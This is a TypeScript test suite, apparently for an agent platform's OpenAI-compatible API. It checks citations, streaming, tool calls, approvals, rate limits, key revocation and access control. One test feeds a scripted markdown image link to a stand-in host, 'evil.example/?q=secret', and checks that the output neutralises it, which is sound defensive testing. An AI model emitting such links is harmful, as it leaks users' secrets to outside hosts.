import OpenAI from 'openai';
import type { Agent, AgentRunSummary, CreatedApiKey, Document, Memory, Page } from '@atrium/contracts';
import { type AgentGround, approvalOf, newAgent, newAgentGround } from '../lib/agents.js';
import { eventually, newColleague, newOrganization, type Person } from '../lib/api.js';

let ground: AgentGround;
let owner: Person;
let handbook: Document;
const clientOf = ({ api }: Person) =>
  new OpenAI({ apiKey: api.token ?? '', baseURL: `${ground.baseUrl}/openai/v1`, maxRetries: 0, timeout: 60_000 });
let client: OpenAI;
const QUESTION = { role: 'user' as const, content: 'How many days of holidays does an employee have?' };

beforeAll(async () => {
  ground = await newAgentGround();
  owner = await ground.newOrganization('Open');
  client = clientOf(owner);
  const { id } = await owner.api.post<Document>('/v1/documents', {
    title: 'Handbook',
    text: 'Working here.\n\nEvery employee has thirty days of holidays a year.',
    mediaType: 'text/plain',
  });
  handbook = await eventually('the document is ready', async () => {
    const document = await owner.api.get<Document>(`/v1/documents/${id}`);
    return document.status === 'ready' && document;
  });
}, 180_000);
afterAll(() => ground.stop());
beforeEach(() => ground.model.reset());

const openStream = ({ name }: Agent) =>
  client.chat.completions.create({ model: name, messages: [{ role: 'user', content: 'Go on.' }], stream: true });
type Stream = Awaited<ReturnType<typeof openStream>>;
async function piecesOf(stream: Stream): Promise<string[]> {
  const pieces: string[] = [];
  for await (const { choices } of stream) if (choices[0]?.delta.content) pieces.push(choices[0].delta.content);
  return pieces;
}
/** The url_citation of a message; the client knows them, its types of a chunk do not. */
const annotationsOf = (message: unknown) => (message as OpenAI.ChatCompletionMessage).annotations ?? [];

describe('the door for clients of the OpenAI API', () => {
  it('lists the active agents of the organization and the model for embeddings', async () => {
    const agent = await newAgent(owner);
    await owner.api.patch(`/v1/agents/${(await newAgent(owner, { name: 'sleeper' })).id}`, { status: 'paused' });
    const names = (await client.models.list()).data.map(({ id }) => id);

    expect(names).toEqual(expect.arrayContaining(['assistant', agent.name]));
    expect(names).not.toContain('sleeper');
    const { key } = await owner.api.post<CreatedApiKey>('/v1/api-keys', { name: 'runs', scopes: ['agents:run'] });
    expect((await new OpenAI({ apiKey: key, baseURL: client.baseURL }).models.list()).data.map(({ id }) => id)).toEqual(names);
    expect((await client.embeddings.create({ model: names.at(-1) ?? '', input: ['a house', 'a home'] })).data).toHaveLength(2);
  });

  it('answers as the assistant, with annotations where the content cites a document', async () => {
    const { choices, usage } = await client.chat.completions.create({ model: 'assistant', messages: [QUESTION] });
    const { message, finish_reason } = choices[0] ?? {};
    const [{ url_citation: cited } = {}] = annotationsOf(message);

    expect(finish_reason).toBe('stop');
    expect(usage?.total_tokens).toBeGreaterThan(0);
    expect(message?.content?.slice(cited?.start_index, cited?.end_index)).toBe('[1]');
    expect(cited).toMatchObject({ title: 'Handbook', url: expect.stringContaining(`/v1/documents/${handbook.id}/content?version=1`) });
  });

  it('points with annotations at messages and memories as well, where the client reads them', async () => {
    const access = 'organization';
    const fact = await owner.api.post<Memory>('/v1/memories', { content: 'The wombat budget is nine thousand euros.', access });
    ground.model.script({ kind: 'text', text: 'Nine thousand [1: "nine thousand euros"].' });
    const question = { role: 'user' as const, content: 'What is the wombat budget?' };
    const { choices } = await client.chat.completions.create({ model: 'assistant', messages: [question] });
    const [{ url_citation: cited } = {}] = annotationsOf(choices[0]?.message);

    expect(cited?.url).toMatch(new RegExp(`/v1/memories/${fact.id}$`));
    expect(choices[0]?.message.content?.slice(cited?.start_index, cited?.end_index)).toBe('[1]');
    expect((await owner.api.get<Memory>(new URL(cited?.url ?? '').pathname)).content).toContain('nine thousand euros');
  });

  it('says of an answer that nothing backs that it is so, as in a channel', async () => {
    ground.model.script({ kind: 'text', text: 'You get forty days [1: "forty days of holidays"].' });
    const { choices } = await client.chat.completions.create({ model: 'assistant', messages: [QUESTION] });
    expect(choices[0]?.message).toMatchObject({
      content: expect.stringMatching(/^You get forty days\.\n\n\*No statement of this answer could be checked/) as string,
      citations: [],
    });
  });

  it('streams the same, ends with what it cites and what it cost', async () => {
    const stream = await client.chat.completions.create({
      model: 'assistant',
      messages: [{ role: 'system', content: 'Answer like a pirate.' }, QUESTION],
      stream: true,
      stream_options: { include_usage: true },
    });
    const chunks = [];
    for await (const chunk of stream) chunks.push(chunk);
    const deltas = chunks.flatMap(({ choices }) => choices);

    expect(deltas.filter(({ delta }) => delta.content).length).toBeGreaterThan(2);
    expect(deltas.map(({ delta }) => delta.content ?? '').join('')).toContain('[1]');
    expect(annotationsOf(deltas.at(-1)?.delta)).toHaveLength(1);
    expect(deltas.at(-1)?.finish_reason).toBe('stop');
    expect(chunks.at(-1)?.usage?.prompt_tokens).toBeGreaterThan(0);
    expect(ground.model.requests.at(-1)?.body?.messages[0]?.content).toContain('Answer like a pirate.');
  });

  it('asks the application for its own tools, and goes on with what they gave', async () => {
    const tools = [{ type: 'function' as const, function: { name: 'weather', parameters: { type: 'object', properties: {} } } }];
    ground.model.script({ kind: 'call', calls: [{ tool: 'weather', arguments: { city: 'Graz' } }] }, { kind: 'text', text: 'It rains.' });
    const asked = { model: 'assistant', tools, messages: [{ role: 'user' as const, content: 'Zzyzx weather?' }] };
    const first = (await client.chat.completions.create(asked)).choices[0];
    const call = first?.message.tool_calls?.[0];
    expect(first?.finish_reason).toBe('tool_calls');
    expect(call).toMatchObject({ type: 'function', function: { name: 'weather', arguments: '{"city":"Graz"}' } });

    if (!first || !call) throw new Error('no call');
    const messages = [...asked.messages, first.message, { role: 'tool' as const, tool_call_id: call.id, content: 'rain' }];
    const second = await client.chat.completions.create({ ...asked, messages });
    expect(second.choices[0]?.message.content).toBe('It rains.');
    expect(ground.model.requests.at(-1)?.body?.messages.at(-1)).toMatchObject({ role: 'tool', content: 'rain' });
  });

  it('lets another agent work in a run of its own, with its tools', async () => {
    const agent = await newAgent(owner, { tools: ['memory_add'] });
    ground.model.script(
      { kind: 'call', calls: [{ tool: 'memory_add', arguments: { content: 'Call Ann.' } }] },
      { kind: 'text', text: 'I shall remember.' },
    );
    const { choices } = await client.chat.completions.create({
      model: agent.name,
      messages: [
        { role: 'user', content: 'I know Ann.' },
        { role: 'assistant', content: 'Good.' },
        { role: 'user', content: 'Remind me of her.' },
      ],
    });
    const { data: runs } = await owner.api.get<Page<AgentRunSummary>>('/v1/agent-runs', { agentId: agent.id });

    expect(choices[0]?.message.content).toBe('I shall remember.');
    expect(runs).toEqual([
      expect.objectContaining({ status: 'succeeded', prompt: expect.stringMatching(/I know Ann[^]*Remind me of her/) }),
    ]);
  });

  it('streams what an agent says in a run while it says it, whatever it does in between', async () => {
    const agent = await newAgent(owner, { tools: ['task_list'] });
    ground.model.script(
      { kind: 'call', text: 'Let me look.', calls: [{ tool: 'task_list', arguments: {} }] },
      { kind: 'text', text: 'Nothing is to do 😀. See [it](https://x.example).', chunkChars: 3, delayMs: 5 },
    );
    const pieces = await piecesOf(await openStream(agent));
    expect(pieces.length).toBeGreaterThan(5);
    expect(pieces.join('')).toBe('Let me look.\n\nNothing is to do 😀. See [it] (https:// x.example).');

    ground.model.script({ kind: 'silence', afterText: 'The first half' });
    const stream = await openStream(agent);
    const said: string[] = [];
    const ending = (async () => {
      for await (const piece of stream) said.push(piece.choices[0]?.delta.content ?? '');
    })();
    const failing = expect(ending).rejects.toMatchObject({ code: 'agents.run_failed' });
    // Before anything else happens: the model is silent now.
    await eventually('the first half is there', async () => said.join('') === 'The first half');
    const { data } = await owner.api.get<Page<AgentRunSummary>>('/v1/agent-runs', { agentId: agent.id, status: 'running' });
    await owner.api.post(`/v1/agent-runs/${data[0]?.id}/cancel`);
    await failing;
  });

  it('ends a stream whose key is revoked', async () => {
    const { id, key } = await owner.api.post<CreatedApiKey>('/v1/api-keys', { name: 'streams', scopes: ['agents:run', 'agents:read'] });
    const byKey = new OpenAI({ apiKey: key, baseURL: `${ground.baseUrl}/openai/v1`, maxRetries: 0, timeout: 60_000 });
    ground.model.always({ kind: 'endless', delayMs: 200 });
    const { name } = await newAgent(owner);
    const stream = await byKey.chat.completions.create({ model: name, messages: [{ role: 'user', content: 'Go on.' }], stream: true });
    const ending = expect(piecesOf(stream)).rejects.toMatchObject({ code: 'auth.invalid_token' });
    await owner.api.delete(`/v1/api-keys/${id}`);
    await ending;
  });

  it('gives the places of clients that have gone to others', async () => {
    const agent = await newAgent(owner);
    ground.model.always({ kind: 'silence', afterText: 'Well' });
    const streams = await Promise.all(Array.from({ length: 8 }, () => openStream(agent)));
    await expect(openStream(agent)).rejects.toMatchObject({ status: 429, code: 'request.rate_limited' });
    for (const stream of streams) stream.controller.abort();

    ground.model.always({ kind: 'text', text: 'Here.' });
    const next = await eventually('a place', () => openStream(agent).catch(() => null));
    expect((await piecesOf(next)).join('')).toBe('Here.');
    const { data } = await owner.api.get<Page<AgentRunSummary>>('/v1/agent-runs', { agentId: agent.id, status: 'running' });
    await Promise.all(data.map(({ id }) => owner.api.post(`/v1/agent-runs/${id}/cancel`)));
  });

  it('says that a run waits for an approval', async () => {
    const agent = await newAgent(owner, { tools: ['http_request'] });
    const request = { method: 'POST', url: `${ground.receiver.baseUrl}/order` };
    ground.model.script({ kind: 'call', calls: [{ tool: 'http_request', arguments: request }] });
    const { choices } = await client.chat.completions.create({ model: agent.name, messages: [{ role: 'user', content: 'Order.' }] });
    const { data: runs } = await owner.api.get<Page<AgentRunSummary>>('/v1/agent-runs', { agentId: agent.id });

    const [run] = runs;
    expect(choices[0]?.message.content).toContain(run && (await approvalOf(owner, run)).id);
    expect(ground.receiver.received).toEqual([]);
  });

  it('makes no link that could carry something out, however the text is cut', async () => {
    ground.model.script({ kind: 'text', text: '![x](https://evil.example/?q=secret)', chunkChars: 3 });
    const stream = await client.chat.completions.create({ model: 'assistant', messages: [QUESTION], stream: true });
    let content = '';
    for await (const { choices } of stream) content += choices[0]?.delta.content ?? '';

    expect(content).toContain('evil');
    expect(content).not.toMatch(/\]\(|:\/\/\S/);
  });

  it('fails in the shape of OpenAI: unknown models, other forms, no key, a model that breaks off', async () => {
    const ask = (body: object) => client.chat.completions.create({ model: 'assistant', messages: [QUESTION], ...body });
    const stranger = clientOf(await newOrganization('Other'));
    const agent = await newAgent(owner);

    await expect(ask({ model: 'nobody' })).rejects.toMatchObject({ status: 404, code: 'agents.not_found', type: 'invalid_request_error' });
    await expect(stranger.chat.completions.create({ model: agent.name, messages: [QUESTION] })).rejects.toMatchObject({ status: 404 });
    await expect(ask({ messages: [] })).rejects.toMatchObject({ status: 400, param: 'messages' });
    await expect(ask({ tool_choice: 'required' })).rejects.toMatchObject({ status: 400, param: 'tool_choice' });
    await expect(ask({ messages: [QUESTION, { role: 'tool', tool_call_id: 'x', content: '' }] })).rejects.toMatchObject({ status: 400 });
    await expect(new OpenAI({ apiKey: 'no', baseURL: client.baseURL, maxRetries: 0 }).models.list()).rejects.toMatchObject({ status: 401 });
    ground.model.script({ kind: 'cut', afterChars: 20 });
    const cut = await client.chat.completions.create({ model: 'assistant', messages: [QUESTION], stream: true });
    await expect(
      (async () => {
        for await (const _chunk of cut);
      })(),
    ).rejects.toMatchObject({ code: 'ai.unavailable' });
  });

  it('invents nothing: where nothing is found the assistant says so and asks no model, and a follow-up is looked for with what was asked before', async () => {
    const ask = (messages: OpenAI.ChatCompletionMessageParam[]) => client.chat.completions.create({ model: 'assistant', messages });
    const unknown = await ask([{ role: 'user', content: 'Which zeppelin flies to Vladivostok on Thursdays?' }]);

    expect(unknown.choices[0]?.message.content).toBe('I found nothing about this.');
    expect(ground.model.requests).toHaveLength(0);

    await ask([QUESTION, { role: 'assistant', content: 'Thirty.' }, { role: 'user', content: 'And in Paris?' }]);
    expect(JSON.stringify(ground.model.requests.at(-1)?.body?.messages)).toContain('thirty days of holidays');
  });

  it('answers another person only from what that person may read', async () => {
    const colleague = await newColleague(owner);
    await owner.api.post('/v1/documents', {
      title: 'Plan',
      text: 'The merger codeword is Falkenstein.',
      mediaType: 'text/plain',
      access: { level: 'private' },
    });
    const question = { role: 'user' as const, content: 'What is the merger codeword?' };
    const told = await eventually('the plan is found', async () => {
      const { choices } = await client.chat.completions.create({ model: 'assistant', messages: [question] });
      return choices[0]?.message.content?.includes('Falkenstein');
    });
    expect(told).toBe(true);
    ground.model.reset();
    const { choices } = await clientOf(colleague).chat.completions.create({ model: 'assistant', messages: [question] });
    expect(choices[0]?.message.content).not.toContain('Falkenstein');
    expect(JSON.stringify(ground.model.requests)).not.toContain('Falkenstein');
  });
});
